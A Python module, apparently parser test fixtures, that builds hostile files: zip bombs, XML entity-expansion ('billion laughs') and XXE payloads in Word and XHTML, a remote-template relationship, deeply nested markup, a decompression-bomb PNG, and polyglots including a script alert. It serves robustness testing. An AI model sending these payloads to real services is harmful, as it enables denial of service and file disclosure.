"""Files made to hurt who reads them: each a function that returns its bytes."""

import io
import struct
import zlib
from itertools import pairwise
from zipfile import ZIP_DEFLATED, ZipFile

import docx
from hostile_pdfs import SENTENCE, one_page

# ZIP and DOCX


def word(*lines: str) -> bytes:
    made = docx.Document()
    for line in lines or (SENTENCE,):
        made.add_paragraph(line)
    content = io.BytesIO()
    made.save(content)
    return content.getvalue()


def word_with(parts: dict[str, bytes]) -> bytes:
    """A Word document with `parts` in the place of its own, or beside them."""
    content = io.BytesIO()
    with ZipFile(io.BytesIO(word())) as old, ZipFile(content, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name) or old.read(name))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return content.getvalue()


def word_body(xml: str, *, doctype: str = "") -> bytes:
    """A Word document with this body."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = f'{doctype}<w:document xmlns:w="{space}"><w:body>{xml}</w:body></w:document>'
    return word_with({"word/document.xml": document.encode()})


def bomb_in_a_part() -> bytes:
    """Three hundred megabytes of zeros beside the text, and their true size."""
    content = io.BytesIO(word())
    with ZipFile(content, "a", ZIP_DEFLATED) as archive, archive.open("word/a.bin", "w") as part:
        for _ in range(300):
            part.write(bytes(1024**2))
    return content.getvalue()


def bomb_that_lies() -> bytes:
    """The body unpacks to 300 million bytes; the directory says it is short."""
    head, body, tail = b"<w:p><w:r><w:t>", b"a" * 300_000_000, b"</w:t></w:r></w:p>"
    name = b"word/document.xml"
    bomb = bytearray(word_with({name.decode(): head + body + tail}))
    entry = bomb.rindex(b"PK\x01\x02", 0, bomb.rindex(name))
    bomb[entry + 24 : entry + 28] = struct.pack("<I", 1000)
    local = bomb.index(b"PK\x03\x04", max(bomb.index(name) - 40, 0))
    bomb[local + 22 : local + 26] = struct.pack("<I", 1000)
    return bytes(bomb)


def bomb_of_overlaps() -> bytes:
    """A thousand entries of the directory share one packed part, ten megabytes each."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(10_000_000)) + packer.flush()
    crc, size = zlib.crc32(bytes(10_000_000)), 10_000_000
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), size, 6, 0)
    content = local + b"word/x" + packed
    directory = b""
    for number in range(1000):
        name = b"word/%d" % number
        directory += struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed),
                                 size, len(name), 0, 0, 0, 0, 0, 0) + name  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1000, 1000, len(directory), len(content), 0)
    return content + directory + end


def zip_in_zips() -> bytes:
    inner = word()
    for _ in range(20):
        content = io.BytesIO()
        with ZipFile(content, "w", ZIP_DEFLATED) as archive:
            archive.writestr("word/inner.docx", inner)
        inner = content.getvalue()
    return inner


LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghij"))
    + "]>"
)


def laughs_in_word() -> bytes:
    return word_body("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", doctype=LAUGHS)


def blow_up_in_word() -> bytes:
    """Quadratic: one long entity, many times."""
    doctype = f'<!DOCTYPE w [<!ENTITY a "{"a" * 100_000}">]>'
    return word_body(f"<w:p><w:r><w:t>{'&a;' * 100_000}</w:t></w:r></w:p>", doctype=doctype)


def outside_in_word(address: str) -> bytes:
    doctype = f'<!DOCTYPE w [<!ENTITY a SYSTEM "{address}">]>'
    body = f"<w:p><w:r><w:t>{SENTENCE}</w:t><w:t>&a;</w:t></w:r></w:p>"
    return word_body(body, doctype=doctype)


def outside_template_of_word(address: str) -> bytes:
    """The relations of the document lead to an address: a template, as attacks by mail do."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="rId1" Type="{kind}" Target="{address}" TargetMode="External"/>'
    relations = f'<Relationships xmlns="{space}">{relation}</Relationships>'
    return word_with({"word/_rels/settings.xml.rels": relations.encode()})


def deep_tables_in_word() -> bytes:
    depth = 20_000
    inner = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
    tables = "<w:tbl><w:tr><w:tc>" * depth + inner + "</w:tc></w:tr></w:tbl>" * depth
    return word_body(tables)


def nested_tables_in_word() -> bytes:
    """As deep as a parser allows."""
    inner = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
    return word_body("<w:tbl><w:tr><w:tc>" * 80 + inner + "</w:tc></w:tr></w:tbl>" * 80)


# HTML and text


def deep_page() -> bytes:
    return b"<html><body>" + b"<div>" * 40_000 + SENTENCE.encode() + b"</div>" * 40_000


def deep_inline_page() -> bytes:
    return b"<p>" + b"<b><i>" * 20_000 + SENTENCE.encode()


def many_attributes_page() -> bytes:
    attributes = " ".join(f"a{number}=1" for number in range(100_000))
    return f"<html><body {attributes}><p>{SENTENCE}</p>".encode()


def many_links_page() -> bytes:
    return b"<html><body>" + b"<a href=/x>x</a>" * 20_000


def open_tags_page() -> bytes:
    return b"<html><body>" + b"<table><tr><td><a>" * 20_000


def laughs_in_xhtml() -> bytes:
    page = f"<html><body><p>{SENTENCE} &j;</p></body></html>"
    return f'<?xml version="1.0"?>{LAUGHS.replace("DOCTYPE w", "DOCTYPE html")}{page}'.encode()


def outside_in_xhtml(address: str) -> bytes:
    doctype = f'<!DOCTYPE html [<!ENTITY a SYSTEM "{address}">]>'
    return f"{doctype}<html><body><p>{SENTENCE} &a;</p></body></html>".encode()


def one_line() -> bytes:
    return b"a" * 2_900_000


def spaces() -> bytes:
    return b"a" + b" \t" * 1_400_000 + b"b"


def zeros() -> bytes:
    return bytes(1_000_000)


def wide_without_mark() -> bytes:
    return SENTENCE.encode("utf-16-le")


# Pictures


def png(width: int, height: int, rows: bytes) -> bytes:
    """A grey PNG of this size, with these packed rows."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">2I5B", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def vast_picture() -> bytes:
    """60,000 by 60,000 pixels, all there: half a megabyte of file."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(bytes(7_501) * 1000) for _ in range(60)) + packer.flush()
    return png(60_000, 60_000, packed)


def vast_picture_by_its_own_account() -> bytes:
    return png(2**31 - 1, 2**31 - 1, zlib.compress(bytes(100)))


# What is two things at once


def page_before_pdf() -> bytes:
    return b"<html><body><!--".ljust(900) + one_page()


def zip_after_pdf() -> bytes:
    return one_page() + word("Another text, in the archive.")


def archive_after_gif() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + word()


def picture_with_page() -> bytes:
    return b"\xff\xd8\xff\xe0<html><body><script>alert(1)</script>" + SENTENCE.encode()
